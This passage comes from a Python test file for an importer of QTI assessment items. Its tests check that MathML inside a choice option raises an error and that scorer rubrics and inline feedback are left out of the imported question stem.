        '<simpleChoice identifier="B">b</simpleChoice>',
        '<simpleChoice identifier="B"><math xmlns="http://www.w3.org/1998/Math/MathML"><mn>2</mn></math></simpleChoice>')
    (err,) = import_qti_errors(_write_item(tmp_path, body), default_dimension="D1")
    assert (err.item_id, err.field) == ("item-q1", "options") and "<math> (MathML)" in err.message


def test_feedback_and_scorer_rubrics_are_left_out(tmp_path) -> None:
    body = ('<rubricBlock view="scorer"><p>Accept B only.</p></rubricBlock>'
            '<p>Pick one.<feedbackInline outcomeIdentifier="FB" identifier="A" showHide="show">Well done</feedbackInline></p>')
    (item,) = import_qti(_write_item(tmp_path, CHOICE_21.format(body=body)), default_dimension="D1")
    assert item.stem.zh_tw == "<p>Pick one.</p>"
